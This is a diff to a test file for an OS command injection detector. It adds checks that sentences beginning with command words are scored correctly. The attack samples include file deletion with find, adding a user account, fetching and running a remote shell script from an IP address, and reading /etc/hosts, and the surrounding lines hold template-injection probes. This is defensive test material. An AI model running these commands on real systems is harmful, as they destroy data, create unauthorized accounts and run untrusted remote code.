@@ -23,6 +23,15 @@ describe('OS command injection detector', () => {
   ];
   for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
 
+  describe('a sentence that opens with a word that is also a command', () => {
+    const attacks = ['find / -name secret files -delete', 'net user guest s3cret /add', 'open https://203.0.113.9/x.sh; sh x.sh',
+      'cat /etc/hosts now', 'find /var/www and more -exec rm {} +'];
+    for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => assert.ok(score(a) >= 0.8, `${a}: ${score(a)}`));
+    const benign = ['open https://example.com to continue', "type 'yes' to confirm", 'find /docs for help', 'at https://status.example.com we post updates',
+      'start https://app.example.com and sign in', "echo \"hello\" back, don't shout"];
+    for (const b of benign) it(`does not flag ${JSON.stringify(b)}`, () => assert.ok(score(b) < 0.8, `${b}: ${score(b)}`));
+  });
+
   describe('template injection probes', () => {
     const attacks = [
       '{{7*7}}', '{{ 9 * 9 }}', "{{3*'3'}}", '${6*6}', '${{5*5}}', '#{2*21}', '<%= 8*8 %>', '{{12+30}}', '{{2**10}}',
